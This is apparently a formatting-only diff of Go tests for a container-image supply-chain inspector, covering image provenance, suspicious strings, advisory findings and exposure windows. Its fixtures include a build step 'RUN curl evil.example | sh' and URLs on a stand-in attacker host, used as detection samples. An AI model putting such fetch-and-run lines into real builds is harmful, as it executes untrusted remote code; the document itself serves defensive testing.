@@ -53,8 +53,10 @@ func TestIdentitiesBuildersAndMaterials(t *testing.T) {
 		"a material's digest":     {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "a", Digest: "sha1:" + commit}}}}}, 1},
 		"an image as a material":  {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "b", Digest: digest}}}}}, 1},
 		"a digest without prefix": {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "b", Digest: digest[7:]}}}}}, 1},
-		"empty statements": {inspect.Image{Provenance: []inspect.Provenance{{},
-			{Materials: []inspect.Material{{}}}}}, 0},
+		"empty statements": {inspect.Image{Provenance: []inspect.Provenance{
+			{},
+			{Materials: []inspect.Material{{}}},
+		}}, 0},
 		"the image itself": {inspect.Image{ImageHead: inspect.ImageHead{Digest: digest}}, 1},
 		"its index":        {inspect.Image{ImageHead: inspect.ImageHead{Index: digest}}, 1},
 	} {
@@ -73,12 +75,18 @@ func TestStringsOfAnIncident(t *testing.T) {
 	}{
 		"an entrypoint": {inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Entrypoint: []string{"sh", "-c", "evil-marker"}}}}, []string{"string evil-marker"}},
 		"a variable":    {inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Env: []string{"A=https://evil.example/x"}}}}, []string{"string evil.example"}},
-		"a build step": {inspect.Image{Layers: []inspect.Layer{{CreatedBy: "RUN curl evil.example | sh"}}},
-			[]string{"string evil.example"}},
-		"a lock file": {inspect.Image{Lock: []inspect.LockRow{{Resolved: "https://evil.example/a.tgz"}}},
-			[]string{"string evil.example"}},
-		"twice": {inspect.Image{Layers: []inspect.Layer{{CreatedBy: "evil.example"},
-			{CreatedBy: "evil.example"}}}, []string{"string evil.example"}},
+		"a build step": {
+			inspect.Image{Layers: []inspect.Layer{{CreatedBy: "RUN curl evil.example | sh"}}},
+			[]string{"string evil.example"},
+		},
+		"a lock file": {
+			inspect.Image{Lock: []inspect.LockRow{{Resolved: "https://evil.example/a.tgz"}}},
+			[]string{"string evil.example"},
+		},
+		"twice": {inspect.Image{Layers: []inspect.Layer{
+			{CreatedBy: "evil.example"},
+			{CreatedBy: "evil.example"},
+		}}, []string{"string evil.example"}},
 		"a file's name":  {inspect.Image{Binaries: []inspect.Binary{{Path: "/evil-marker"}}}, nil},
 		"nothing at all": {inspect.Image{}, nil},
 	} {
@@ -123,9 +131,12 @@ func TestNamesOfRepositories(t *testing.T) {
 // a record that was withdrawn, which convicts nobody.
 func TestFindingsByTheirCertainty(t *testing.T) {
 	row := func(id string, kind inspect.AdvisoryKind, subject string, s inspect.Severity,
-		change func(a *inspect.Advisory)) inspect.Advisory {
-		a := inspect.Advisory{ID: id, Source: "incident-pack", Kind: kind, Subject: subject, Title: "what happened",
-			Severity: s, Status: s.RowStatus(), Layer: -1}
+		change func(a *inspect.Advisory),
+	) inspect.Advisory {
+		a := inspect.Advisory{
+			ID: id, Source: "incident-pack", Kind: kind, Subject: subject, Title: "what happened",
+			Severity: s, Status: s.RowStatus(), Layer: -1,
+		}
 		if change != nil {
 			change(&a)
 		}
@@ -152,15 +163,19 @@ func TestFindingsByTheirCertainty(t *testing.T) {
 		status               inspect.RowStatus
 	}{
 		"known-compromised package npm-x 1.0, npm-y 1.0, npm-z 1.0 and 1 more (a): what " +
-			"happened": {inspect.CodeKnownCompromise, "web:/app/node_modules/npm-x/package.json",
-			"package:npm-x@1.0", inspect.RowFailed},
+			"happened": {
+			inspect.CodeKnownCompromise, "web:/app/node_modules/npm-x/package.json",
+			"package:npm-x@1.0", inspect.RowFailed,
+		},
 		"known compromise b by its layer sha256:aa: what " +
 			"happened": {inspect.CodeKnownCompromise, "web", "", inspect.RowFailed},
 		"image built then, within the exposure window of c: what " +
 			"happened": {inspect.CodeExposureWindow, "web", "", inspect.Low.RowStatus()},
 		"gem 1 matched d, which was withdrawn: what " +
-			"happened": {inspect.CodeWithdrawnAdvisory, "web", "package:gem@1",
-			inspect.Info.RowStatus()},
+			"happened": {
+			inspect.CodeWithdrawnAdvisory, "web", "package:gem@1",
+			inspect.Info.RowStatus(),
+		},
 		"known-compromised package libx 1 (e): what happened": {inspect.CodeKnownCompromise, "web", "package:libx@1", inspect.RowFailed}, // the database is no file of it
 	} {
 		f, there := got[title]
@@ -190,11 +205,15 @@ func TestWindows(t *testing.T) {
 		return inspect.At(parsed)
 	}
 	for text, inside := range map[string]map[string]bool{
-		"2026-03-01,2026-03-02": {"2026-02-28T23:59:59Z": false, "2026-03-01T00:00:00Z": true,
-			"2026-03-02T23:59:59Z": true, "2026-03-03T00:00:00Z": false},
+		"2026-03-01,2026-03-02": {
+			"2026-02-28T23:59:59Z": false, "2026-03-01T00:00:00Z": true,
+			"2026-03-02T23:59:59Z": true, "2026-03-03T00:00:00Z": false,
+		},
 		"2026-03-01T12:00:00Z,": {"2026-03-01T11:59:59Z": false, "2030-01-01T00:00:00Z": true},
-		",2026-03-01T12:00:00+02:00": {"2026-03-01T10:00:00Z": true, "2026-03-01T10:00:01Z": false,
-			"1970-01-02T00:00:00Z": true},
+		",2026-03-01T12:00:00+02:00": {
+			"2026-03-01T10:00:00Z": true, "2026-03-01T10:00:01Z": false,
+			"1970-01-02T00:00:00Z": true,
+		},
 		" 2026-03-01 , 2026-03-01 ": {"2026-03-01T10:00:00Z": true, "2026-03-02T00:00:00Z": false},
 	} {
 		w, err := ParseWindow(text)
